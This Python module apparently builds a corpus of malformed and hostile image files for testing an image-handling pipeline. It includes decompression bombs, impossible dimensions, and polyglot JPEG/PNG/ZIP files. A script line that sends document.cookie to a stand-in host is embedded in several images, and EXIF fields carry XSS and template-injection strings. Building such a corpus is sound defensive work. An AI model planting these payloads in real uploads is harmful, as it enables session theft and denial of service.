"""Photos made to harm whoever opens them: what calls itself one thing and is another, promises more than it holds, or
holds more than it promises."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import numpy as np
from evidence import corpus
from PIL import Image

JPEG, PNG, WEBP, HEIC = "image/jpeg", "image/png", "image/webp", "image/heic"
SCRIPT = b"<html><script>fetch('//example.invalid/'+document.cookie)</script></html>"


def files() -> dict[str, tuple[str, bytes]]:
    """Name → declared media type and content."""
    plain = corpus.encoded(corpus.scenery(600, 400))
    png = corpus.encoded(corpus.corners(64, 48), "PNG")
    return {
        "empty": (JPEG, b""),
        "three bytes": (JPEG, b"\xff\xd8\xff"),
        "JPEG and ZIP": (JPEG, plain + _zip()),
        "JPEG and page behind it": (JPEG, plain + SCRIPT),
        "JPEG with page as comment": (JPEG, plain[:2] + _segment(0xFE, SCRIPT) + plain[2:]),
        "JPEG with markup in EXIF": (JPEG, _marked_up()),
        "JPEG with page for a colour profile": (JPEG, corpus.encoded(corpus.corners(60, 40), icc_profile=SCRIPT * 999)),
        "JPEG of 0 x 0": (JPEG, _resized_header(plain, 0, 0)),
        "JPEG of 600 x 0": (JPEG, _resized_header(plain, 600, 0)),
        "JPEG that promises 65535 x 65535": (JPEG, _resized_header(plain, 65_535, 65_535)),
        "JPEG that promises 14000 x 14000": (JPEG, _resized_header(plain, 14_000, 14_000)),
        "JPEG in CMYK": (JPEG, corpus.encoded(corpus.corners(900, 600).convert("CMYK"))),
        "progressive JPEG of 36 megapixels": (JPEG, _progressive(6000)),
        "JPEG with a thousand scans": (JPEG, _many_scans()),
        "GIF that calls itself a JPEG": (JPEG, b"GIF89a/*" + SCRIPT),
        "PNG of 0 x 0": (PNG, corpus.huge_png(0, 0)),
        "PNG that promises 2.5 gigapixels": (PNG, corpus.huge_png()),
        "PNG of 36 megapixels, black": (PNG, _deflated(6000, 6000, 3)),
        "PNG of 36 megapixels, see-through": (PNG, _deflated(6000, 6000, 4)),
        "PNG with more behind its pixels": (PNG, _deflated(100, 100, 3, extra=80_000_000)),
        "PNG with a text of 60 MB": (PNG, png[:33] + _text(60_000_000) + png[33:]),
        "PNG with a page behind it": (PNG, png + SCRIPT),
        "PNG in 16 bits a colour": (PNG, _sixteen_bits()),
        "PNG one pixel high": (PNG, corpus.encoded(Image.new("L", (40_000, 1)), "PNG")),
        "PNG one pixel wide": (PNG, corpus.encoded(Image.new("L", (1, 40_000)), "PNG")),
        "animated PNG": (PNG, _animated("PNG", 40)),
        "animated WebP": (WEBP, _animated("WEBP", 40)),
        "WebP of 0 x 0": (WEBP, b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0" + b"\0" * 4 + b"\xff" * 6),
        "HEIC of nothing": (HEIC, b"\0\0\0\x18ftypheic\0\0\0\0heicmif1"),
        "HEIC whose box is longer than it": (HEIC, b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + b"\x7f\xff\xff\xffmeta"),
        "noise after the first bytes": (JPEG, plain[:600] + random.Random(1).randbytes(20_000)),
    }  # fmt: skip


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", SCRIPT)
    return buffer.getvalue()


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def _marked_up() -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "<img src=x onerror=alert(1)>", "\"'><svg/onload=alert(1)>\0\x1b[2J" + "A" * 5000
    exif[0x0131], exif[0x0132] = "{{7*7}}${7*7}", "9999:99:99 99:99:99"
    exif.get_ifd(0x8825).update({1: "N", 2: (4e9, 1e9, 0.0), 3: "E", 4: (999.0, 99.0, 99.0)})
    buffer = io.BytesIO()
    corpus.corners(400, 300).save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def _resized_header(jpeg: bytes, width: int, height: int) -> bytes:
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]


def _progressive(side: int) -> bytes:
    return corpus.encoded(Image.new("RGB", (side, side), "gray"), progressive=True, quality=20)


def _many_scans() -> bytes:
    """Each further scan makes a decoder go through the whole picture again."""
    jpeg = corpus.encoded(Image.new("L", (2000, 2000), 128), progressive=True)
    last = jpeg.rindex(b"\xff\xda")
    return jpeg[:last] + jpeg[last:-2] * 1000 + jpeg[-2:]


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _text(length: int) -> bytes:
    return _chunk(b"zTXt", b"k\0\0" + zlib.compress(b"x" * length, 9))


def _deflated(width: int, height: int, bands: int, extra: int = 0) -> bytes:
    """A few kilobytes that swell to megabytes."""
    head = struct.pack(">IIBBBBB", width, height, 8, {3: 2, 4: 6}[bands], 0, 0, 0)
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + width * bands)
    body = b"".join(packer.compress(row) for _ in range(height))
    for _ in range(extra // 1_000_000):
        body += packer.compress(b"\0" * 1_000_000)
    body += packer.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def _sixteen_bits() -> bytes:
    pixels = np.random.default_rng(1).integers(0, 65_536, (200, 300, 3), np.uint16).astype(">u2")
    rows = b"".join(b"\0" + row.tobytes() for row in pixels)
    head = struct.pack(">IIBBBBB", 300, 200, 16, 2, 0, 0, 0)
    body = _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def _animated(form: str, frames: int) -> bytes:
    first, *rest = (Image.new("RGB", (400, 300), (number * 6, 0, 90)) for number in range(frames))
    return corpus.encoded(first, form, save_all=True, append_images=rest, duration=50)
